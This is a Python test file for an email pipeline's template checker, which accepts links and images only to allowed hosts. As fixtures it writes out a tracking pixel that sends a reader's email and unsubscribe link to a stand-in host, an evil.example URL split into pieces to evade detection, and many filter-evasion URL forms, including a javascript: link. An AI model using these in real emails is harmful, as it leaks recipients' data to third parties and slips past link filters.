"""Links and images point only at allowed hosts: the campaign's own links, its booking
page's host, the hosts its file lists, the deployment's (its public URL and
XMAS_ALLOWED_LINK_HOSTS), and `mailto:`. Anything else fails the template's check, with
the template and the line named.
"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from xmas_pipeline.core.campaign import Campaign
from xmas_pipeline.core.links import host_of, link_problems, urls_in
from xmas_pipeline.core.render import Renderer, TemplateSource, load_template_dir
from xmas_pipeline.core.template_check import check_templates
from xmas_pipeline.settings import Settings, SettingsError

NOW = datetime(2025, 12, 1, 15, 0, tzinfo=UTC)
TRACKER = (
    '<img src="https://elsewhere.example/?e={{ email|urlencode }}'
    '&u={{ unsubscribe_url|urlencode }}" width="1" height="1" alt="">'
)


def edited(base: str, extra: str) -> dict[str, TemplateSource]:
    """The shipped templates with `extra` as a new line before `</body>` of `base`."""
    shipped = load_template_dir()
    good = shipped[base]
    body = good.html.replace("</body>", extra + "\n</body>")
    return {**shipped, base: TemplateSource(base, good.subject, body, "notion", good.preheader)}


def line_of(source: str, text: str) -> int:
    return source[: source.index(text)].count("\n") + 1


def test_the_shipped_templates_link_only_to_the_campaign_s_own_hosts(campaign: Campaign) -> None:
    assert campaign.link_hosts() == {"cal.com"}
    assert check_templates(Renderer(load_template_dir()), campaign, NOW) == []


def test_a_foreign_image_fails_the_check_naming_the_template_and_the_line(
    campaign: Campaign,
) -> None:
    sources = edited("email-3", TRACKER)
    line = line_of(sources["email-3"].html, "elsewhere.example")
    problems = check_templates(Renderer(sources), campaign, NOW)
    assert problems == [
        f"email-3 [{segment}]: line {line} of email-3: points at elsewhere.example, "
        "which is not an allowed host"
        for segment in ("CRITICAL", "URGENT", "OPTIMIZE")
    ]
    # Never the reader's data: the address and the unsubscribe link stay out of it.
    assert "sample" not in " ".join(problems) and "token" not in " ".join(problems)


def test_a_segment_variant_is_named_as_itself(campaign: Campaign) -> None:
    sources = edited("email-2.critical", '<a href="http://tracker.example/x">more</a>')
    problems = check_templates(Renderer(sources), campaign, NOW)
    line = line_of(sources["email-2.critical"].html, "tracker.example")
    assert problems == [
        f"email-2 [CRITICAL]: line {line} of email-2.critical: points at tracker.example, "
        "which is not an allowed host"
    ]


def test_a_url_built_from_pieces_is_still_found(campaign: Campaign) -> None:
    pieces = "{{ ('<img sr' ~ 'c=\"https://ev' ~ 'il.example/p.gif\">')|safe }}"
    sources = edited("email-5", pieces)
    line = line_of(sources["email-5"].html, "<img sr")  # where its tag is written
    problems = check_templates(Renderer(sources), campaign, NOW)
    assert len(problems) == 3
    assert all(f"line {line} of email-5: points at evil.example" in p for p in problems)
    # Nothing of it written anywhere: the problem says so instead of a line.
    hidden = "{% set tag = '<i' ~ 'mg s' ~ 'rc=https://ev' ~ 'il.example/p.gif>' %}{{ tag|safe }}"
    problems = check_templates(Renderer(edited("email-5", hidden)), campaign, NOW)
    assert len(problems) == 3
    assert all("email-5 (a URL built from variables): points at evil" in p for p in problems)


def test_hosts_the_deployment_allows_pass(campaign: Campaign) -> None:
    sources = edited(
        "email-3",
        '<img src="https://img.busos.example/logo.png" alt="">'
        '<a href="https://intake.busos.example/faq">FAQ</a>'
        '<a href="https://www.busos.example/">Site</a>'
        '<a href="mailto:hello@busos.example?subject=Hi">Write to us</a><a href="#top">Top</a>',
    )
    assert len(check_templates(Renderer(sources), campaign, NOW)) == 9
    allowing = campaign.with_link_hosts(["img.busos.example", "intake.busos.example"])
    assert len(check_templates(Renderer(sources), allowing, NOW)) == 3  # www. still not
    wildcard = campaign.with_link_hosts(["*.busos.example"])
    assert check_templates(Renderer(sources), wildcard, NOW) == []


def test_the_campaign_file_may_allow_hosts(campaign: Campaign) -> None:
    data = campaign.model_dump()
    data["allowed_hosts"] = ["Img.BusOS.example", "*.cdn.example"]
    allowing = Campaign.model_validate(data)
    assert allowing.link_hosts() == {"cal.com", "img.busos.example", "*.cdn.example"}
    data["allowed_hosts"] = ["https://img.busos.example/"]
    with pytest.raises(ValueError, match="is not a host name"):
        Campaign.model_validate(data)


def test_the_allowed_link_hosts_setting_and_the_public_url(tmp_path) -> None:  # type: ignore[no-untyped-def]
    settings = Settings.from_env(
        {
            "XMAS_HOME": str(tmp_path),
            "XMAS_PUBLIC_URL": "https://Intake.BusOS.example",
            "XMAS_ALLOWED_LINK_HOSTS": " img.busos.example, *.cdn.example ,",
        }
    )
    assert settings.link_hosts == ["*.cdn.example", "img.busos.example", "intake.busos.example"]
    assert settings.campaign().link_hosts() == {
        "cal.com",
        "*.cdn.example",
        "img.busos.example",
        "intake.busos.example",
    }
    # Without a public URL, unsubscribe links point at the intake's local address.
    assert Settings.from_env({"XMAS_HOME": str(tmp_path)}).link_hosts == ["localhost"]
    with pytest.raises(SettingsError, match="XMAS_ALLOWED_LINK_HOSTS"):
        Settings.from_env({"XMAS_HOME": str(tmp_path), "XMAS_ALLOWED_LINK_HOSTS": "a b.example"})


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        ('<IMG SRC="https://elsewhere.example/p.gif">', "points at elsewhere.example"),
        ('<img src="//elsewhere.example/p.gif">', "points at elsewhere.example"),
        ('<a href="https:\\\\elsewhere.example">x</a>', "points at elsewhere.example"),
        ('<a href="https:elsewhere.example">x</a>', "points at elsewhere.example"),
        ('<a href="https://cal.com@elsewhere.example/">x</a>', "points at elsewhere.example"),
        ('<a href="https://elsewhere.example:443\t/x">x</a>', "points at elsewhere.example"),
        ('<a href="https://elsewhere%2Eexample/">x</a>', "points at elsewhere.example"),
        ('<a href="ht&#116;ps://elsewhere.example/">x</a>', "points at elsewhere.example"),
        ("<td background=https://elsewhere.example/bg.png>", "points at elsewhere.example"),
        (
            '<img srcset="https://cal.com/a.png 1x, https://elsewhere.example/b.png 2x">',
            "points at elsewhere.example",
        ),
        ('<img/src="https://elsewhere.example/p.gif">', "points at elsewhere.example"),
        (
            '<svg><image xlink:href="https://elsewhere.example/p.svg"/></svg>',
            "points at elsewhere.example",
        ),
        (
            "<div style=\"background:URL('https://elsewhere.example/p.png')\">",
            "points at elsewhere.example",
        ),
        (
            '<div style="background:url(&quot;https://elsewhere.example/p.png&quot;)">',
            "points at elsewhere.example",
        ),
        (
            "<style>@import 'https://elsewhere.example/a.css';</style>",
            "points at elsewhere.example",
        ),
        (
            "<style>p{background:url(https://elsewhere.example/p.png)}</style>",
            "points at elsewhere.example",
        ),
        ("<style>p{background:url(https://elsewhere.example/p.png", "points at elsewhere.example"),
        (
            "<div style=\"background-image:image-set('https://elsewhere.example/a.png' 1x)\">",
            "points at elsewhere.example",
        ),
        (
            '<meta http-equiv="refresh" content="0; URL=https://elsewhere.example/">',
            "points at elsewhere.example",
        ),
        (
            '<!--[if mso]><v:image src="https://elsewhere.example/p.png"/><![endif]-->',
            "points at elsewhere.example",
        ),
        ('<form action="https://elsewhere.example/f"></form>', "points at elsewhere.example"),
        ('<a href=" javascript:alert(1)">x</a>', "a javascript: URL"),
        ('<img src="data:image/png;base64,AAAA">', "a data: URL"),
        ('<a href="tel:+15550100">call</a>', "a tel: URL"),
        ('<a href="unsubscribe">x</a>', "a URL without a host"),
        ("<style>p{background:u\\72l(x)}</style>", "a backslash escape in CSS"),
        ('<p style="background:u\\72l(x)">', "a backslash escape in CSS"),
    ],
)
def test_every_way_to_point_elsewhere_is_found(html: str, problem: str) -> None:
    found = link_problems(html, html, ["cal.com", "example.com"], [])
    assert found and found[0].problem.startswith(problem), found


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://cal.com/busos/diagnostic?ref=email">Book</a>',
        '<a href="HTTPS://CAL.COM./busos">Book</a>',
        '<a href="mailto:hello@busos.example">Write</a>',
        '<a href="#top">Top</a>',
        '<a data-src="https://elsewhere.example/">not a URL attribute</a>',
        "<p>Visit elsewhere.example or https://elsewhere.example in a browser.</p>",
        '<table cellpadding="0" style="width:100%;max-width:600px;color:#fff">',
    ],
)
def test_what_is_allowed_or_not_a_link_passes(html: str) -> None:
    assert link_problems(html, html, ["cal.com"], []) == []


def test_the_campaign_s_own_links_pass_by_value(campaign: Campaign) -> None:
    # The reader's meeting and unsubscribe link may be anywhere their values say.
    meeting = "https://us02web.zoom.us/j/123?pwd=a&b=c"
    html = f'<a href="{meeting.replace("&", "&amp;")}">Join</a>'
    assert link_problems(html, html, [], [meeting]) == []
    assert link_problems(html, html, [], [])[0].problem.startswith("points at us02web.zoom.us")


def test_hosts_are_read_as_a_browser_reads_them() -> None:
    assert host_of("https://user:pw@Cal.COM.:8443/x?y#z") == "cal.com"
    assert host_of("https:\\\\\\cal.com") == "cal.com"
    assert host_of("//[::1]:8000/x") == "[::1]"
    assert host_of("mailto:x@cal.com") == ""
    assert [f.url for f in urls_in("<a href=\"a\">x</a> <img src='b'> url(c)")] == ["a", "b", "c"]
